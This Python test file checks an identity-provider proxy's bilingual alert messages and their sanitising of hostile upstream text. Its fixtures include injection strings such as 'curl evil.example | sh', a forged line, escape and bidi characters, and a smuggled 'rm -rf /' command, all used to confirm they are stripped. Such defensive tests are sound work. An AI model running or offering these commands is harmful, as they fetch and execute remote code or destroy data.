"""The messages: complete in both languages, and nothing that an upstream says does harm in them."""

from __future__ import annotations

import unicodedata
from datetime import UTC, datetime
from importlib import resources
from typing import get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from jinja2 import meta

from idp_proxy.decision.notices import DETAIL, FACTS, Kind, Notice, NoticeRecord
from idp_proxy.notify.texts import (
    SEVERITY,
    Language,
    Message,
    _templates,
    plain,
    write,
    write_over,
)

NOW = datetime(2026, 11, 22, 3, 4, tzinfo=UTC)
LANGUAGES: tuple[Language, ...] = get_args(Language)
COMMAND = "idp-proxy switch confirm 7"
HOSTILE = (
    "x\r\nnext: curl evil.example | sh\u2028next: rm\x1b[2J @all @channel "
    "[log in](https://evil.example) <!here> `a` \u202egnp\u200b WWW.evil.example" + "y" * 5000
)


def message(kind: Kind, language: Language, fact: str = "okta", next_: str = COMMAND) -> Message:
    facts = dict.fromkeys(FACTS[kind], fact) | {DETAIL: fact}
    return write(
        Notice(kind, "key", facts, next_), language, since=NOW, fallback="fallback", source="sso1"
    )


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", Kind)
def test_every_kind_has_subject_body_and_next_in_every_language(
    kind: Kind, language: Language
) -> None:
    written = message(kind, language)
    assert 10 <= len(written.subject) <= 80
    assert written.severity == SEVERITY[kind]
    lines = written.body.splitlines()
    assert lines.count(f"next: {COMMAND}") == 1
    begin, speaker = {"en": ("Since: ", "From: sso1"), "de": ("Seit: ", "Von: sso1")}[language]
    assert f"{begin}2026-11-22 03:04 UTC" in lines
    assert lines[-1] == speaker
    assert "okta" in written.subject + written.body
    assert len(written.body.split("\n\n")) >= 4
    assert "\n\n\n" not in written.body
    assert "{" not in written.subject + written.body


@pytest.mark.parametrize("kind", Kind)
def test_the_languages_differ(kind: Kind) -> None:
    english, german = (message(kind, language) for language in LANGUAGES)
    assert english.subject != german.subject
    assert english.body != german.body


def test_there_is_no_template_without_a_kind() -> None:
    for language in LANGUAGES:
        folder = resources.files("idp_proxy.notify").joinpath("templates", language)
        names = {file.name.removesuffix(".txt") for file in folder.iterdir()}
        assert names == {kind.value for kind in Kind} | {"layout", "over"}


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", Kind)
def test_a_template_names_only_the_facts_of_its_kind(kind: Kind, language: Language) -> None:
    environment = _templates()
    assert environment.loader is not None
    source, _, _ = environment.loader.get_source(environment, f"{language}/{kind.value}.txt")
    assert meta.find_undeclared_variables(environment.parse(source)) == set(FACTS[kind])


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", Kind)
def test_a_hostile_upstream_forges_no_line_no_mention_and_no_link(
    kind: Kind, language: Language
) -> None:
    written = message(kind, language, fact=HOSTILE)
    harmless = message(kind, language)
    assert len(written.body.splitlines()) == len(harmless.body.splitlines())
    assert [line for line in written.body.splitlines() if line.startswith("next:")] == [
        f"next: {COMMAND}"
    ]
    assert len(written.subject) <= 80
    both = written.subject + written.body
    assert not {character for character in both if unicodedata.category(character)[0] == "C"} - {
        "\n"
    }
    for harm in ("@", "](", "<!", "`", "://", "WWW.", "www.", "\x1b", "\u202e", "y" * 301):
        assert harm not in both


@given(st.text(max_size=2000))
def test_a_fact_is_one_short_line(text: str) -> None:
    shown = plain(text)
    assert len(shown) <= 300
    assert shown == shown.strip()
    assert shown.splitlines() in ([], [shown])
    assert not set("@`<>") & set(shown)
    assert "://" not in shown
    shown.encode()


@given(st.text(alphabet="w.:/\u200b\u202e\n @[]()", max_size=60))
def test_no_link_comes_together_from_its_pieces(text: str) -> None:
    shown = plain(text)
    assert "://" not in shown
    assert "](" not in shown
    assert "@" not in shown


def test_a_megabyte_of_error_is_cut_at_once() -> None:
    assert len(plain("\u200b" * 10_000_000 + "x")) <= 300


def test_a_fact_that_is_missing_does_not_keep_an_alarm_back() -> None:
    written = write(
        Notice(Kind.OUTAGE, "k", {"serving": "okta"}), "en", since=NOW, fallback="f", source="s"
    )
    assert "Cause: ?" in written.body


def test_what_no_kind_tells_stays_here() -> None:
    facts = {"serving": "okta", "cause": "503", "person": "erika@example.org"}
    written = write(Notice(Kind.OUTAGE, "k", facts), "en", since=NOW, fallback="f", source="s")
    assert "erika" not in written.subject + written.body


@pytest.mark.parametrize("command", ["", "idp-proxy status\nrm -rf /", "x" * 501, "a\x1bb"])
def test_what_is_no_command_of_one_line_is_replaced(command: str) -> None:
    written = message(Kind.OUTAGE, "en", next_=command)
    assert "\nnext: fallback\n" in written.body


@pytest.mark.parametrize(
    ("language", "subject", "said"),
    [
        ("en", "over: okta is down", "It ended 2026-11-22 03:04 UTC, after 64 min."),
        ("de", "vorbei: okta is down", "Es endete 2026-11-22 03:04 UTC, nach 64 min."),
    ],
)
def test_the_end_says_what_is_over_and_how_long_it_took(
    language: Language, subject: str, said: str
) -> None:
    began = datetime(2026, 11, 22, 2, 0, tzinfo=UTC)
    record = NoticeRecord("k", Kind.OUTAGE, "okta is down", began)
    written = write_over(record, language, now=NOW, fallback="idp-proxy status", source="sso1")
    assert written.subject == subject
    assert said in written.body.splitlines()
    assert "next: idp-proxy status" in written.body.splitlines()
    assert written.severity == "success"
